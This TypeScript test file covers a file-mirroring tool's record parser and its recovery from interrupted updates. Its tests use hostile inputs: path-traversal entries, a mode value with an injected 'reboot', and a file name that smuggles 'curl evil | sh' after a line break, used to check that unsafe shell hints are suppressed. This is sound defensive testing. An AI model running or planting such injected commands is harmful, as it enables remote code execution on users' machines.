import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import {
  formatRecord,
  mirrorAt,
  parseRecord,
  shipFiles,
} from '../../../../src/operations/compose/host-mirror.ts'
import { readLocalFiles } from '../../../../src/operations/compose/read-local-files.ts'
import { openLocal } from '../../../../src/transport/local/local.ts'

const digest = 'a'.repeat(64)

describe('the record of copied files', () => {
  test('is parsed as it was written', () => {
    const record = new Map([
      ['a', { type: 'folder', mode: 0o755 }],
      ['a/b', { type: 'file', mode: 0o644, digest }],
      ['a/..c', { type: 'link', target: '../x' }],
    ] as const)
    expect(parseRecord(formatRecord(record))).toEqual(record)
  })

  test.each([
    ['../x', { type: 'folder', mode: 0o755 }],
    ['a/../../x', { type: 'folder', mode: 0o755 }],
    ['/etc', { type: 'folder', mode: 0o755 }],
    ['a', null],
    ['a', { type: 'folder', mode: '755; reboot' }],
    ['a', { type: 'folder' }],
    ['a', { type: 'file', mode: 0o644, digest: '../x' }],
    ['a', { type: 'link', target: 7 }],
    ['a', { type: 'socket', mode: 0 }],
    [7, { type: 'folder', mode: 0o755 }],
  ])('ignores an invalid entry: path %s with %j', (path, entry) => {
    const valid = ['b', { type: 'folder', mode: 0o755 }]
    const lines = [[path, entry], valid].map((line) => JSON.stringify(line))
    expect([...parseRecord(lines.join('\n')).keys()]).toEqual(['b'])
  })
})

async function write(place: (name: string) => string, files: Record<string, string>) {
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(place(name)), { recursive: true })
    await writeFile(place(name), content)
  }
}

describe('an interrupted update', () => {
  let outer: string
  beforeEach(async () => {
    outer = await mkdtemp(join(tmpdir(), 'mirror-'))
  })
  afterEach(() => rm(outer, { recursive: true, force: true }))

  const local = (name: string) => join(outer, 'data', name)
  const there = (name: string) => join(outer, 'store/root', local(name))
  const mirror = (become: readonly string[] = []) =>
    mirrorAt({ name: 'web-1', transport: openLocal(process.env), become }, join(outer, 'store'))
  const ship = async (become?: readonly string[]) =>
    shipFiles(
      mirror(become),
      (await readLocalFiles({ mounts: [local('dir'), local('conf')] })).files,
    )
  /**
   * Ships files, then restores the store as it was just before the record was committed, as if killed at that moment.
   */
  async function shipUntilRecord(): Promise<void> {
    const [shipped, paths] = await Promise.all(
      ['shipped', 'paths'].map((name) => readFile(join(outer, 'store', name))),
    )
    const record = formatRecord(await ship())
    await mkdir(join(outer, 'store/pending'))
    const listed = [...parseRecord(record).keys()].map((path) => `${path}\0`).join('')
    await write((name) => join(outer, 'store', name), {
      'pending/shipped': record,
      'pending/paths': listed,
    })
    await writeFile(join(outer, 'store/shipped'), shipped ?? '')
    await writeFile(join(outer, 'store/paths'), paths ?? '')
  }
  const old = { conf: 'old', 'dir/a': 'old', 'dir/removed': 'old' }
  beforeEach(async () => {
    await write(local, old)
    await ship()
    await write(local, { conf: 'new', 'dir/a': 'new', 'dir/added': 'new' })
    await rm(local('dir/removed'))
  })
  const state = async () =>
    Object.fromEntries(
      await Promise.all(
        ['conf', ...(await readdir(there('dir'))).map((name) => `dir/${name}`)].map(
          async (name) => [name, await readFile(there(name), 'utf8')] as const,
        ),
      ),
    )

  test('is undone by shipping the old files again', async () => {
    await shipUntilRecord()
    expect(await state()).toEqual({ conf: 'new', 'dir/a': 'new', 'dir/added': 'new' })
    await write(local, old)
    await rm(local('dir/added'))
    await ship()
    expect(await state()).toEqual(old)
    expect((await readdir(join(outer, 'store'))).toSorted()).toEqual(['paths', 'root', 'shipped'])
  })

  test('is completed, even if it was overwriting a file', async () => {
    await shipUntilRecord()
    await writeFile(there('conf'), 'ne')
    await writeFile(join(outer, 'store/pending/overwriting'), local('conf').slice(1))
    await ship()
    expect(await state()).toEqual({ conf: 'new', 'dir/a': 'new', 'dir/added': 'new' })
  })

  test('keeps what a container has written since', async () => {
    await shipUntilRecord()
    await writeFile(there('dir/a'), 'of a container')
    await write(local, { 'dir/a': 'newer' })
    await expect(ship()).rejects.toMatchObject({
      message: expect.stringMatching(/conflict: .*dir\/a changed on both/) as string,
      hint: expect.stringContaining(`fleet cp web-1:${there('dir/a')} ${local('dir/a')}`) as string,
    })
    await expect(ship(['env'])).rejects.toMatchObject({
      hint: [
        `to keep the version on web-1: fleet ssh web-1 -- sudo cat ${there('dir/a')} > ${local('dir/a')}`,
        `to keep the version on this computer: fleet ssh web-1 -- sudo rm ${there('dir/a')}; then run the command again`,
      ].join('; '),
    })
    await write(local, { 'dir/a': 'old' })
    await ship()
    expect(await readFile(there('dir/a'), 'utf8')).toBe('of a container')
  })

  test('does not suggest commands for a file whose name has a line break', async () => {
    const odd = 'dir/a\ncurl evil | sh\n'
    await write(local, { [odd]: 'old' })
    await ship()
    await write(there, { [odd]: 'of a container' })
    await write(local, { [odd]: 'newer' })
    await expect(ship()).rejects.toMatchObject({
      hint: 'give the file a name without control characters, then run the command again',
    })
  })
})
